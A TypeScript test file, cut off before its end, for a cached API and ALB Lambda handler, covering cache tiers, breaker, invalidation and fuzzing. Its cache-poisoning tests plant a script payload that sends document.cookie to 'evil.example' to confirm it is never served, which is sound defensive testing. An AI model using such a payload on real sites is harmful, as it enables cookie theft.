/**
 * The app and the (not serialized) ALB handler in-process, against a real memcached and a real
 * upstream HTTP server. The serialized handler and the container process are in parity.test.ts.
 */
import * as assert from "node:assert/strict";
import * as fs from "node:fs";
import * as net from "node:net";
import * as path from "node:path";
import { createTwoTierCache, namespaceKeyring, parseMacKeys, sealEntry, type ReadThroughCache, type TwoTierCache } from "../../functions/cache";
import { ApiDeps, LogLevel, createApp } from "../../app/app";
import { AlbResult } from "../../functions/platform/alb";
import type { LambdaContextLike } from "../../functions/platform/lambda";
import { DemoLambdaDeps as LambdaDeps, createDemoApiHandler as createApiHandler, createDemoLambdaHandler as createLambdaHandler } from "../../app/lambda";
import { cacheKeyForPath, itemCacheKey, upstreamFailure } from "../../app/app";
import { apiMetricsSink, cacheOptionsFromSettings } from "../../functions/platform/env";
import { apiSettingsFromEnv } from "../../app/settings";
import { createLambdaEntry } from "../../functions/platform/entry";
import { demoApp } from "../../app";
import { memcachedText, newMacKey } from "../functions/cache/helpers";
import type { ControlResponse } from "../../functions/cache";
import { MemcachedServer, freePort, startMemcached } from "../support/memcached";
import { Upstream, startUpstream } from "../support/upstream";

const FIXTURES = path.join(__dirname, "..", "fixtures", "alb");
type Form = "single" | "multi";

/** An ALB event shaped like the fixtures, for any request. `query` values are raw (as the ALB passes them). */
function albEvent(form: Form, req: { method?: string; path: string; query?: Record<string, string | string[]>; headers?: Record<string, string>; body?: string; base64?: boolean }): Record<string, unknown> {
  const base = JSON.parse(fs.readFileSync(path.join(FIXTURES, `get-item.${form}.json`), "utf8")) as Record<string, unknown>;
  const query = req.query ?? {};
  const headers = { ...(form === "single" ? (base.headers as Record<string, string>) : {}), ...req.headers };
  const ev: Record<string, unknown> = { requestContext: base.requestContext, httpMethod: req.method ?? "GET", path: req.path, body: req.body ?? "", isBase64Encoded: req.base64 ?? false };
  if (form === "single") {
    ev.queryStringParameters = Object.fromEntries(Object.entries(query).map(([k, v]) => [k, Array.isArray(v) ? v[v.length - 1] : v]));
    ev.headers = headers;
  } else {
    ev.multiValueQueryStringParameters = Object.fromEntries(Object.entries(query).map(([k, v]) => [k, Array.isArray(v) ? v : [v]]));
    const mv = { ...(base.multiValueHeaders as Record<string, string[]>) };
    for (const [k, v] of Object.entries(req.headers ?? {})) mv[k] = [v];
    ev.multiValueHeaders = mv;
  }
  return ev;
}

function ctx(remainingMs = 10000, extra: Partial<LambdaContextLike> = {}): LambdaContextLike {
  const until = Date.now() + remainingMs;
  return {
    getRemainingTimeInMillis: () => until - Date.now(),
    awsRequestId: "c6af9ac6-7b61-11e6-9a41-93e812345678",
    functionName: "api-dev",
    functionVersion: "$LATEST",
    logStreamName: "2026/11/22/[$LATEST]abcdef",
    memoryLimitInMB: "512",
    ...extra,
  };
}

function header(r: AlbResult, name: string): string | undefined {
  return r.headers ? r.headers[name] : r.multiValueHeaders?.[name]?.join(", ");
}

interface LogEntry { level: LogLevel; message: string; fields?: Record<string, unknown> }

describe("api app (in-process, real memcached + real upstream)", function () {
  this.timeout(20000);
  let mc: MemcachedServer;
  let up: Upstream;
  let seq = 0;
  const caches: TwoTierCache[] = [];
  let logs: LogEntry[] = [];
  const log = (level: LogLevel, message: string, fields?: Record<string, unknown>): void => {
    logs.push({ level, message, fields });
  };

  const newCache = (namespace: string): TwoTierCache => {
    const c = createTwoTierCache({ namespace, memcached: { servers: [mc.address] } });
    caches.push(c);
    return c;
  };
  const deps = (over: Partial<ApiDeps> = {}): ApiDeps => {
    const namespace = over.namespace ?? `app${++seq}`;
    return { cache: newCache(namespace), upstreamUrl: up.url, runtime: "container", namespace, log, ...over };
  };
  const lambdaDeps = (over: Partial<LambdaDeps> = {}): LambdaDeps => {
    const namespace = over.namespace ?? `lam${++seq}`;
    return { cache: newCache(namespace), upstreamUrl: up.url, namespace, log, ...over };
  };
  const get = async (app: ReturnType<typeof createApp>, url: string, init: RequestInit = {}, env: Record<string, unknown> = {}): Promise<Response> =>
    app.fetch(new Request(`http://app.test${url}`, init), env);

  before(async () => {
    mc = await startMemcached();
    up = await startUpstream();
  });
  beforeEach(() => {
    up.behaviour = { status: 200, body: '{"id":"42","name":"Widget"}', contentType: "application/json; charset=utf-8", delayMs: 0 };
    up.handler = undefined;
    up.requests.length = 0;
    logs = [];
  });
  after(async () => {
    for (const c of caches) await c.close();
    await up?.close();
    await mc?.stop();
  });

  describe("GET /items/{id}", () => {
    it("MISS, then HIT-L1, then HIT-L2 from another instance; one upstream call; body and type from upstream", async () => {
      const d = deps();
      const app = createApp(d);
      const r1 = await get(app, "/items/42?lang=de");
      assert.equal(r1.status, 200);
      assert.equal(r1.headers.get("x-cache"), "MISS");
      assert.equal(r1.headers.get("content-type"), "application/json; charset=utf-8");
      assert.equal(r1.headers.get("x-served-by"), "container");
      assert.equal(await r1.text(), '{"id":"42","name":"Widget"}');
      const r2 = await get(app, "/items/42?lang=de");
      assert.equal(r2.headers.get("x-cache"), "HIT-L1");
      assert.equal(await r2.text(), '{"id":"42","name":"Widget"}');
      // A second instance (new L1) sharing memcached and namespace: L2 hit.
      const other = createApp({ ...d, cache: newCache(d.namespace as string) });
      const r3 = await get(other, "/items/42?lang=de");
      assert.equal(r3.headers.get("x-cache"), "HIT-L2");
      assert.equal(await r3.text(), '{"id":"42","name":"Widget"}');
      assert.equal(up.requests.length, 1);
      assert.equal(up.requests[0].url, "/items/42?lang=de");
      assert.equal(up.requests[0].headers.accept, "application/json");
    });

    it("unknown query parameters are neither forwarded nor part of the key; lang is normalised", async () => {
      const app = createApp(deps());
      assert.equal((await get(app, "/items/7?lang=DE&utm_source=a")).headers.get("x-cache"), "MISS");
      assert.equal((await get(app, "/items/7?lang=de&b=2")).headers.get("x-cache"), "HIT-L1");
      assert.equal((await get(app, "/items/7?utm=1&lang=de")).headers.get("x-cache"), "HIT-L1");
      await get(app, "/items/7?lang=pt-br&x=y");
      assert.deepEqual(up.requests.map((r) => r.url), ["/items/7?lang=de", "/items/7?lang=pt-BR"]);
    });

    it("serves STALE when the upstream fails after freshness ran out", async () => {
      const app = createApp(deps({ ttlSeconds: 1, staleTtlSeconds: 60 }));
      assert.equal((await get(app, "/items/9")).headers.get("x-cache"), "MISS");
      await new Promise((r) => setTimeout(r, 1100));
      up.behaviour.status = 500;
      up.behaviour.body = "boom";
      const r = await get(app, "/items/9");
      assert.equal(r.status, 200);
      assert.equal(r.headers.get("x-cache"), "STALE");
      assert.equal(await r.text(), '{"id":"42","name":"Widget"}');
      assert.ok(Number(r.headers.get("age")) >= 1);
    });

    it("upstream 5xx without a stale copy -> 502 JSON that does not leak the upstream address", async () => {
      up.behaviour.status = 503;
      const app = createApp(deps());
      const r = await get(app, "/items/1");
      assert.equal(r.status, 502);
      const body = await r.text();
      assert.deepEqual(JSON.parse(body), { error: { code: "upstream_error", message: "the upstream answered 503" } });
      assert.ok(!body.includes("127.0.0.1"));
      assert.equal(r.headers.get("cache-control"), "no-store");
      assert.ok(logs.some((l) => l.level === "warn" && l.message === "upstream failure" && String(l.fields?.error).includes("127.0.0.1")));
    });

    it("an upstream 204 is passed on without a body (not a 500)", async () => {
      up.behaviour.status = 204;
      up.behaviour.body = "";
      const r = await get(createApp(deps()), "/items/empty");
      assert.equal(r.status, 204);
      assert.equal(await r.text(), "");
      const h = createLambdaHandler(lambdaDeps());
      const lr = await h(albEvent("single", { path: "/items/empty" }), ctx());
      assert.equal(lr.statusCode, 204);
      assert.equal(lr.body, "");
      assert.ok(lr.headers && Object.keys(lr.headers).length > 0);
    });

    it("upstream 404 -> 404 item_not_found", async () => {
      up.behaviour.status = 404;
      const r = await get(createApp(deps()), "/items/404");
      assert.equal(r.status, 404);
      assert.equal((await r.json() as { error: { code: string } }).error.code, "item_not_found");
    });

    it("a slow upstream -> 504 JSON after the upstream timeout, not after the upstream", async () => {
      up.behaviour.delayMs = 3000;
      const started = Date.now();
      const r = await get(createApp(deps({ upstreamTimeoutMs: 200 })), "/items/slow");
      const took = Date.now() - started;
      assert.equal(r.status, 504);
      assert.deepEqual(await r.json(), { error: { code: "upstream_timeout", message: "the upstream did not answer in time" } });
      assert.ok(took < 1500, `took ${took} ms`);
    });

    it("an unreachable upstream -> 502 JSON", async () => {
      const port = await freePort();
      const r = await get(createApp(deps({ upstreamUrl: `http://127.0.0.1:${port}` })), "/items/1");
      assert.equal(r.status, 502);
      assert.deepEqual(await r.json(), { error: { code: "upstream_error", message: "the upstream could not be reached" } });
    });

    it("a failure that is not an upstream error -> 500 internal_error, logged", async () => {
      const broken: ReadThroughCache = {
        getOrLoad: () => Promise.reject(new Error("disk on fire")),
        close: async () => undefined,
      };
      const r = await get(createApp(deps({ cache: broken })), "/items/1");
      assert.equal(r.status, 500);
      assert.deepEqual(await r.json(), { error: { code: "internal_error", message: "internal error; the request was logged" } });
      assert.ok(logs.some((l) => l.level === "error" && l.fields?.error === "disk on fire"));
      const h = createLambdaHandler(lambdaDeps({ cache: broken }));
      const lr = await h(albEvent("single", { path: "/items/1" }), ctx());
      assert.equal(lr.statusCode, 500);
      assert.equal(lr.statusDescription, "500 Internal Server Error");
    });
  });

  describe("resilience: breaker, negative caching, invalidation", () => {
    it("upstreamFailure maps 503 (breaker open / shed) and 404/410 (not found)", () => {
      assert.equal(upstreamFailure(503).status, 503);
      assert.equal(upstreamFailure(503).code, "upstream_unavailable");
      assert.equal(upstreamFailure(502, 410).status, 404);
      assert.equal(upstreamFailure(502, 404).code, "item_not_found");
    });

    it("an open breaker: 503 JSON with Retry-After at once, the upstream not called; a cached copy is served STALE instead", async () => {
      const namespace = `brk${++seq}`;
      const cache = createTwoTierCache({
        namespace, memcached: { servers: [mc.address] },
        upstream: { breaker: { failureThreshold: 2, openMs: 3000, maxOpenMs: 3000 } },
        negative: { errorTtlSeconds: 0 },
      });
      caches.push(cache);
      const app = createApp(deps({ cache, namespace, ttlSeconds: 1, staleTtlSeconds: 600 }));
      assert.equal((await get(app, "/items/kept")).status, 200);
      up.behaviour.status = 500;
      assert.equal((await get(app, "/items/a")).status, 502);
      assert.equal((await get(app, "/items/b")).status, 502);
      const calls = up.requests.length;
      const t = Date.now();
      const r = await get(app, "/items/c");
      assert.ok(Date.now() - t < 50, `took ${Date.now() - t} ms`);
      assert.equal(r.status, 503);
      assert.equal(r.headers.get("retry-after"), "3");
      assert.equal(r.headers.get("cache-control"), "no-store");
      assert.deepEqual((await r.json() as { error: { code: string } }).error.code, "upstream_unavailable");
      await new Promise((res) => setTimeout(res, 1050)); // "kept" is past its TTL now
      const kept = await get(app, "/items/kept");
      assert.equal(kept.status, 200);
      assert.equal(kept.headers.get("x-cache"), "STALE");
      assert.equal(up.requests.length, calls, "nothing reached the upstream while open");
      const lam = await createLambdaHandler(lambdaDeps({ cache, namespace }))(albEvent("single", { path: "/items/d" }), ctx());
      assert.equal(lam.statusCode, 503);
      assert.equal(lam.statusDescription, "503 Service Unavailable");
      assert.ok(Number(lam.headers?.["retry-after"]) >= 1);
    });

    it("a missing item: 404, then 404 from the negative cache (x-cache: NEGATIVE) without calling the upstream", async () => {
      up.behaviour.status = 404;
      const app = createApp(deps());
      assert.equal((await get(app, "/items/nope")).status, 404);
      const again = await get(app, "/items/nope");
      assert.equal(again.status, 404);
      assert.equal(again.headers.get("x-cache"), "NEGATIVE");
      assert.equal(up.requests.length, 1);
    });

    it("cacheKeyForPath: the key a GET of the same path uses (lang normalised, base path stripped); only /items is cached", () => {
      assert.deepEqual(cacheKeyForPath("/items/42?lang=de", { namespace: "n" }), { ok: true, key: itemCacheKey("n", "42", "de"), id: "42", lang: "de" });
      const plain = cacheKeyForPath("/items/42", { namespace: "n" });
      assert.equal(plain.ok && plain.key, itemCacheKey("n", "42", "en"), "no lang = the default lang, as for a GET");
      assert.equal(cacheKeyForPath("/dev/items/42?lang=de&x=1", { namespace: "n", basePath: "/dev" }).ok && true, true);
      assert.equal((cacheKeyForPath("/dev/items/42", { namespace: "n", basePath: "/dev" }) as { key: string }).key, itemCacheKey("n", "42", "en"));
      for (const bad of ["/health", "/slow?ms=1", "/nope", "items/1", "/items/a%2"]) assert.equal(cacheKeyForPath(bad, { namespace: "n" }).ok, false, bad);
    });

    it("the Lambda handler: a direct control event deletes the item's key everywhere; the same field inside an ALB event is refused (403) and changes nothing", async () => {
      const namespace = `ctl${++seq}`;
      const mkCache = (): TwoTierCache => {
        const c = createTwoTierCache({ namespace, memcached: { servers: [mc.address] }, l1: { maxAgeMs: 200 } });
        caches.push(c);
        return c;
      };
      const h = createApiHandler(lambdaDeps({ cache: mkCache(), namespace }));
      const other = createLambdaHandler(lambdaDeps({ cache: mkCache(), namespace }));
      const event = albEvent("single", { path: "/items/42", query: { lang: "de" } });
      assert.equal((await h(event, ctx()) as { headers?: Record<string, string> }).headers?.["x-cache"], "MISS");
      assert.equal((await other(event, ctx())).headers?.["x-cache"], "HIT-L2");
      up.behaviour.body = '{"id":"42","name":"Changed"}';

      const forged = await h({ ...event, serverlessCacheControl: { action: "invalidate", path: "/items/42?lang=de" } }, ctx()) as { statusCode: number; body: string };
      assert.equal(forged.statusCode, 403);
      assert.match(forged.body, /direct invocation/);
      assert.ok(logs.some((l) => l.message === "control field in an HTTP event refused"));
      assert.equal((await other(event, ctx())).headers?.["x-cache"], "HIT-L1", "nothing was invalidated");

      const res = await h({ serverlessCacheControl: { action: "invalidate", path: "/items/42?lang=de" } }, ctx()) as ControlResponse;
      assert.deepEqual({ ok: res.ok, action: res.action, nodes: res.nodes.map((n) => n.result), boundMs: res.boundMs, settleMs: res.settleMs },
        { ok: true, action: "invalidate", nodes: ["deleted"], boundMs: 200, settleMs: 5000 /* the cache's loader timeout */ });
      await new Promise((r) => setTimeout(r, 210));
      const after = await other(event, ctx());
      assert.equal(after.headers?.["x-cache"], "MISS");
      assert.match(after.body ?? "", /Changed/);

      const malformed = await h({ serverlessCacheControl: { action: "invalidate" } }, ctx()) as ControlResponse;
      assert.equal(malformed.ok, false);
      const notCached = await h({ serverlessCacheControl: { action: "invalidate", path: "/health" } }, ctx()) as ControlResponse;
      assert.deepEqual([notCached.ok, notCached.nodes, /not a cached route.*nothing to delete here/.test(notCached.note ?? "")], [true, [], true]);
      const flushed = await h({ serverlessCacheControl: { action: "flush" } }, ctx()) as ControlResponse;
      assert.equal(flushed.ok, true);
      assert.ok((flushed.generation ?? 0) > 0);
    });

    it("the environment's resilience settings reach the cache, and the Lambda writes EMF lines for breaker events", async () => {
      const s = apiSettingsFromEnv({ UPSTREAM_URL: up.url, MEMCACHED_SERVERS: mc.address, UPSTREAM_BREAKER_FAILURES: "1", UPSTREAM_BREAKER_OPEN_MS: "5000", UPSTREAM_BREAKER_MAX_OPEN_MS: "5000", CACHE_L1_MAX_AGE_MS: "1234", CACHE_ERROR_TTL_SECONDS: "0" });
      const lines: string[] = [];
      const sink = apiMetricsSink(s, "lambda");
      assert.ok(sink, "metrics are on by default");
      // capture what the sink writes by wrapping process.stdout for this test only
      const origWrite = process.stdout.write.bind(process.stdout);
      (process.stdout as unknown as { write: (c: string) => boolean }).write = (c: string) => { if (c.includes("\"_aws\"")) { lines.push(c); return true; } return origWrite(c); };
      try {
        const options = cacheOptionsFromSettings({ ...s, namespace: `emf${++seq}` }, log, sink);
        assert.equal(options.l1?.maxAgeMs, 1234);
        const cache = createTwoTierCache(options);
        caches.push(cache);
        const h = createApiHandler(lambdaDeps({ cache, namespace: options.namespace, flushMetrics: sink.flush }));
        up.behaviour.status = 500;
        await h(albEvent("single", { path: "/items/e1" }), ctx());
        const refused = await h(albEvent("single", { path: "/items/e2" }), ctx()) as { statusCode: number };
        assert.equal(refused.statusCode, 503);
      } finally {
        (process.stdout as unknown as { write: typeof origWrite }).write = origWrite;
      }
      const all = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
      const sum = (name: string): number => all.reduce((a, l) => a + (typeof l[name] === "number" ? (l[name] as number) : 0), 0);
      assert.equal(sum("UpstreamBreakerOpen"), 1);
      assert.equal(sum("UpstreamRejected"), 1);
      assert.ok(all.every((l) => l.service === "api" && l.runtime === "lambda"));
    });
  });

  describe("data in the caches: poisoned memcached entries, foreign content types, oversized upstream bodies", () => {
    const KEY = newMacKey();
    const keyed = (namespace: string): TwoTierCache => {
      const c = createTwoTierCache({ namespace, memcached: { servers: [mc.address] }, entryAuth: { keys: KEY } });
      caches.push(c);
      return c;
    };
    const put = async (skey: string, raw: string): Promise<void> => {
      assert.equal(await memcachedText(mc.address, `set ${skey} 0 300 ${Buffer.byteLength(raw)}\r\n${raw}\r\n`, /\r\n$/), "STORED\r\n");
    };
    const envelope = (d: unknown): string => {
      const now = Date.now();
      return JSON.stringify({ s: now, f: now + 300_000, e: now + 600_000, d, g: 0 });
    };
    const HTML = { status: 200, contentType: "text/html; charset=utf-8", body: "<script>fetch('https://evil.example/?'+document.cookie)</script>" };

    for (const [what, make] of [
      ["an unsigned text/html answer", (_skey: string, _ns: string) => envelope(HTML)],
      ["an authentic (validly signed) text/html answer", (skey: string, ns: string) => sealEntry(namespaceKeyring(parseMacKeys(KEY), ns), skey, envelope(HTML))],
      ["a signed answer copied from another item", (_skey: string, ns: string) => sealEntry(namespaceKeyring(parseMacKeys(KEY), ns), keyed(ns).storageKey(itemCacheKey(ns, "other", "en")), envelope({ status: 200, contentType: "application/json", body: '{"id":"other"}' }))],
      ["an answer signed with another stack's key", (skey: string, ns: string) => sealEntry(namespaceKeyring(parseMacKeys(newMacKey()), ns), skey, envelope({ status: 200, contentType: "application/json", body: '{"id":"42","evil":true}' }))],
    ] as const) {
      it(`${what} in memcached is never served: the API answers the upstream's JSON (MISS) and repairs the entry`, async () => {
        const namespace = `poison${++seq}`;
        const cache = keyed(namespace);
        await put(cache.storageKey(itemCacheKey(namespace, "42", "en")), make(cache.storageKey(itemCacheKey(namespace, "42", "en")), namespace));
        const app = createApp({ cache, upstreamUrl: up.url, runtime: "container", namespace, log });
        const r = await get(app, "/items/42?lang=en");
        assert.equal(r.status, 200);
        assert.equal(r.headers.get("x-cache"), "MISS");
        assert.equal(r.headers.get("content-type"), "application/json; charset=utf-8");
        assert.equal(r.headers.get("x-content-type-options"), "nosniff");
        assert.equal(await r.text(), '{"id":"42","name":"Widget"}');
        assert.equal(up.requests.length, 1, "the request refetched");
        const other = createApp({ cache: keyed(namespace), upstreamUrl: up.url, runtime: "container", namespace, log });
        const again = await get(other, "/items/42?lang=en");
        assert.equal(again.headers.get("x-cache"), "HIT-L2", "memcached now holds the authentic answer");
        assert.equal(await again.text(), '{"id":"42","name":"Widget"}');
      });
    }

    it("a validly signed JSON answer is served from memcached (HIT-L2) without calling the upstream", async () => {
      const namespace = `valid${++seq}`;
      const cache = keyed(namespace);
      const skey = cache.storageKey(itemCacheKey(namespace, "7", "en"));
      await put(skey, sealEntry(namespaceKeyring(parseMacKeys(KEY), namespace), skey, envelope({ status: 200, contentType: "application/json", body: '{"id":"7","from":"memcached"}' })));
      const r = await get(createApp({ cache, upstreamUrl: up.url, runtime: "container", namespace, log }), "/items/7?lang=en");
      assert.equal(r.headers.get("x-cache"), "HIT-L2");
      assert.equal(await r.text(), '{"id":"7","from":"memcached"}');
      assert.equal(up.requests.length, 0);
    });

    it("an upstream answering text/html gets a 502 (nothing stored, nothing of it served)", async () => {
      up.behaviour = { ...up.behaviour, contentType: "text/html", body: "<html>captive portal</html>" };
      const d = deps();
      const r = await get(createApp(d), "/items/5");
      assert.equal(r.status, 502);
      const body = await r.json() as { error: { code: string; message: string } };
      assert.deepEqual(body.error, { code: "upstream_error", message: "the upstream answered a content type this API does not serve" });
      assert.ok(logs.some((l) => l.level === "warn" && l.fields?.invalidAnswer === "content-type"));
    });

    it("an upstream body over the cap is cut and answered 502, by the app and by the Lambda built from the environment", async () => {
      up.behaviour = { ...up.behaviour, body: JSON.stringify({ blob: "x".repeat(300_000) }) };
      const r = await get(createApp(deps({ upstreamMaxBodyBytes: 100_000 })), "/items/6");
      assert.equal(r.status, 502);
      assert.equal((await r.json() as { error: { message: string } }).error.message, "the upstream's answer is larger than this API accepts");
      // The deployed path: settings from the environment (the key, the cap, the types) into the Lambda handler.
      const namespace = `envsec${++seq}`;
      const env = { UPSTREAM_URL: up.url, MEMCACHED_SERVERS: mc.address, CACHE_NAMESPACE: namespace, CACHE_MAC_KEYS: KEY, UPSTREAM_MAX_BODY_BYTES: "100000", LOG_LEVEL: "silent" };
      const made: { cache?: TwoTierCache } = {};
      const h = createLambdaEntry(demoApp, env, (o) => {
        made.cache = createTwoTierCache(o);
        caches.push(made.cache);
        return made.cache;
      });
      const big = await h(albEvent("single", { path: "/items/6" }), ctx()) as AlbResult;
      assert.equal(big.statusCode, 502);
      up.behaviour = { ...up.behaviour, body: '{"id":"8"}' };
      const small = await h(albEvent("single", { path: "/items/8" }), ctx()) as AlbResult;
      assert.equal(small.statusCode, 200);
      const stored = await memcachedText(mc.address, `get ${(made.cache as TwoTierCache).storageKey(itemCacheKey(namespace, "8", "en"))}\r\n`, /END\r\n$/);
      assert.match(stored, /\r\n~m1:/, "the Lambda seals what it stores with the key from its environment");
    });
  });

  describe("GET /health", () => {
    it("touches no dependency: fast 200 with a dead cache and a dead upstream", async () => {
      const calls: string[] = [];
      const tripwire: ReadThroughCache = {
        getOrLoad: (key) => { calls.push(key); return Promise.reject(new Error("health must not use the cache")); },
        close: async () => undefined,
      };
      const dead = `http://127.0.0.1:${await freePort()}`;
      const app = createApp({ cache: tripwire, upstreamUrl: dead, runtime: "container", log });
      const started = Date.now();
      for (let i = 0; i < 20; i++) {
        const r = await get(app, "/health");
        assert.equal(r.status, 200);
        assert.deepEqual(await r.json(), { status: "ok" });
        assert.equal(r.headers.get("cache-control"), "no-store");
      }
      assert.ok(Date.now() - started < 1000);
      assert.deepEqual(calls, []);
    });

    it("answers 503 draining while the container shuts down", async () => {
      const r = await get(createApp(deps()), "/health", {}, { draining: true });
      assert.equal(r.status, 503);
      assert.deepEqual(await r.json(), { status: "draining" });
    });
  });

  describe("GET /slow", () => {
    it("sleeps the requested time", async () => {
      const started = Date.now();
      const r = await get(createApp(deps()), "/slow?ms=150");
      assert.equal(r.status, 200);
      assert.deepEqual(await r.json(), { sleptMs: 150 });
      assert.ok(Date.now() - started >= 145);
    });

    it("refuses up front a sleep that would outlive the Lambda deadline", async () => {
      const h = createLambdaHandler(lambdaDeps({ deadlineMarginMs: 100 }));
      const started = Date.now();
      const r = await h(albEvent("single", { path: "/slow", query: { ms: "1000" } }), ctx(400));
      assert.equal(r.statusCode, 503);
      assert.equal(JSON.parse(r.body).error.code, "deadline_too_short");
      assert.ok(Date.now() - started < 500);
      const ok = await h(albEvent("single", { path: "/slow", query: { ms: "50" } }), ctx(400));
      assert.equal(ok.statusCode, 200);
    });

    it("ends early when the client goes away", async () => {
      const ac = new AbortController();
      const started = Date.now();
      const p = get(createApp(deps()), "/slow?ms=3000", { signal: ac.signal });
      setTimeout(() => ac.abort(), 100);
      await p.then((r) => r.text()).catch(() => undefined);
      assert.ok(Date.now() - started < 1000);
    });
  });

  describe("GET /runtime", () => {
    it("container: runtime, instance and cold/warm", async () => {
      const app = createApp(deps({ instanceId: "task-1" }));
      const first = (await (await get(app, "/runtime")).json()) as Record<string, unknown>;
      const second = (await (await get(app, "/runtime")).json()) as Record<string, unknown>;
      assert.equal(first.runtime, "container");
      assert.equal(first.instanceId, "task-1");
      assert.equal(first.coldStart, true);
      assert.equal(second.coldStart, false);
      assert.equal(second.requestNumber, 2);
      assert.equal((first.container as { pid: number }).pid, process.pid);
    });

    it("lambda: cold on the first invocation only, one instance id per handler, context facts", async () => {
      const h1 = createLambdaHandler(lambdaDeps());
      const h2 = createLambdaHandler(lambdaDeps());
      const a = JSON.parse((await h1(albEvent("multi", { path: "/runtime" }), ctx())).body) as Record<string, unknown>;
      const b = JSON.parse((await h1(albEvent("multi", { path: "/runtime" }), ctx())).body) as Record<string, unknown>;
      const c = JSON.parse((await h2(albEvent("multi", { path: "/runtime" }), ctx())).body) as Record<string, unknown>;
      assert.equal(a.runtime, "lambda");
      assert.deepEqual([a.coldStart, b.coldStart, c.coldStart], [true, false, true]);
      assert.equal(a.instanceId, b.instanceId);
      assert.notEqual(a.instanceId, c.instanceId);
      assert.deepEqual(a.lambda, {
        awsRequestId: "c6af9ac6-7b61-11e6-9a41-93e812345678",
        functionName: "api-dev",
        functionVersion: "$LATEST",
        logStreamName: "2026/11/22/[$LATEST]abcdef",
        memoryLimitInMB: "512",
      });
    });
  });

  describe("ALB handler", () => {
    it("answers in the form of the event: headers (single) or multiValueHeaders (multi)", async () => {
      const h = createLambdaHandler(lambdaDeps());
      const s = await h(albEvent("single", { path: "/items/42", query: { lang: "de" } }), ctx());
      assert.equal(s.statusCode, 200);
      assert.equal(s.statusDescription, "200 OK");
      assert.equal(s.isBase64Encoded, false);
      assert.equal(s.multiValueHeaders, undefined);
      assert.equal(s.headers?.["x-cache"], "MISS");
      assert.equal(s.headers?.["x-served-by"], "lambda");
      const m = await h(albEvent("multi", { path: "/items/42", query: { lang: "de" } }), ctx());
      assert.equal(m.headers, undefined);
      assert.deepEqual(m.multiValueHeaders?.["x-cache"], ["HIT-L1"]);
      assert.equal(m.body, s.body);
    });

    it("HEAD: empty body, headers kept", async () => {
      const h = createLambdaHandler(lambdaDeps());
      const r = await h(albEvent("single", { method: "HEAD", path: "/health" }), ctx());
      assert.equal(r.statusCode, 200);
      assert.equal(r.body, "");
      assert.equal(header(r, "content-type"), "application/json; charset=utf-8");
    });

    it("a request body over 1 MB -> 413 JSON before any routing; a small body on a GET-only route -> 405", async () => {
      const h = createLambdaHandler(lambdaDeps());
      const big = await h(albEvent("multi", { method: "POST", path: "/items/1", body: Buffer.alloc(1024 * 1024 + 1).toString("base64"), base64: true }), ctx());
      assert.equal(big.statusCode, 413);
      assert.equal(big.statusDescription, "413 Content Too Large");
      assert.equal(JSON.parse(big.body).error.code, "body_too_large");
      const small = await h(JSON.parse(fs.readFileSync(path.join(FIXTURES, "post-binary.multi.json"), "utf8")), ctx());
      assert.equal(small.statusCode, 405);
      assert.deepEqual(small.multiValueHeaders?.allow, ["GET, HEAD"]);
      assert.equal(up.requests.length, 0);
    });

    it("the cache deadline follows the Lambda's remaining time", async () => {
      up.behaviour.delayMs = 3000;
      const h = createLambdaHandler(lambdaDeps({ upstreamTimeoutMs: 5000, deadlineMarginMs: 100 }));
      const started = Date.now();
      const r = await h(albEvent("single", { path: "/items/late" }), ctx(500));
      const took = Date.now() - started;
      assert.equal(r.statusCode, 504);
      // 400 ms of budget (500 remaining - 100 margin); the upstream would take 3000.
      assert.ok(took < 1500, `took ${took} ms with 500 ms remaining`);
    });

    it("works without a context (no deadline) and with a context whose clock throws", async () => {
      const h = createLambdaHandler(lambdaDeps());
      assert.equal((await h(albEvent("single", { path: "/health" }))).statusCode, 200);
      const bad = { getRemainingTimeInMillis: () => { throw new Error("nope"); } };
      assert.equal((await h(albEvent("single", { path: "/health" }), bad)).statusCode, 200);
    });

    it("bad input never gives a 5xx and never throws (seeded fuzz over events)", async () => {
      const h = createLambdaHandler(lambdaDeps());
      let seed = 20261122;
      const rnd = (n: number): number => {
        seed = (seed * 1103515245 + 12345) & 0x7fffffff;
        return seed % n;
      };
      const pick = <T>(xs: T[]): T => xs[rnd(xs.length)];
      const junk = [null, undefined, 0, -1, Infinity, "", "x", true, [], {}, [1, "a"], { a: 1 }, "\u0000", "%", "/", "é", "\r\n"];
      const paths = ["/health", "/runtime", "/items/1", "/items/", "/items/%", "/items/%E0%A4", "/slow", "/x", "//", "/items/a b", "/items/\u00e9", "/" + "a".repeat(3000), "/items/..", "/items/./1", "/health?x=1", "/items/1#frag"];
      const keys = ["lang", "ms", "x", "__proto__", "constructor", "", "lang%20", "a+b"];
      const values = ["", "de", "EN", "pt-br", "9999999", "-1", "50", "%", "%zz", "#", "&", "=", "\u00e9", "x".repeat(5000)];
      for (let i = 0; i < 400; i++) {
        const form: Form = rnd(2) === 0 ? "single" : "multi";
        const ev = albEvent(form, { path: pick(paths), method: pick(["GET", "GET", "HEAD", "POST", "DELETE"]) });
        const q: Record<string, string[]> = {};
        for (let k = rnd(4); k > 0; k--) (q[pick(keys)] ??= []).push(pick(values));
        if (form === "single") ev.queryStringParameters = Object.fromEntries(Object.entries(q).map(([k, v]) => [k, v[0]]));
        else ev.multiValueQueryStringParameters = q;
        const mutation = rnd(8);
        if (mutation === 0) ev[pick(["httpMethod", "path", "headers", "multiValueHeaders", "body", "isBase64Encoded", "queryStringParameters", "requestContext"])] = pick(junk);
        if (mutation === 1) ev.body = pick(["", "aGVsbG8=", "!!notbase64!!", "x".repeat(2000)]);
        if (mutation === 2) ev.isBase64Encoded = true;
        const subject = mutation === 3 ? pick(junk) : ev;
        const r = await h(subject, ctx());
        assert.ok(r.statusCode < 500, `${r.statusCode} ${r.body} for ${JSON.stringify(subject).slice(0, 300)}`);
        assert.match(r.statusDescription, /^\d{3} /);
        assert.equal(typeof r.body, "string");
        const hdrs = r.headers ?? r.multiValueHeaders;
        assert.ok(hdrs && Object.keys(hdrs).length > 0);
        if (r.statusCode >= 400) assert.equal(typeof JSON.parse(r.body).error.code, "string");
      }
    });

    it("invalid ids (space, unicode, newline) are refused before the cache is asked", async () => {
      // A recording wrapper around the real cache: only the valid id reaches getOrLoad.
      const seen: string[] = [];
      const real = newCache(`rec${++seq}`);
      const recording: ReadThroughCache = { getOrLoad: (k, l, o) => { seen.push(k); return real.getOrLoad(k, l, o); }, close: () => real.close() };
      const h = createLambdaHandler(lambdaDeps({ cache: recording }));
      for (const p of ["/items/a%20b", "/items/%C3%A9", "/items/a%0Ab", "/items/ok-1"]) await h(albEvent("single", { path: p }), ctx());
      assert.equal(seen.length, 1);
    });
  });

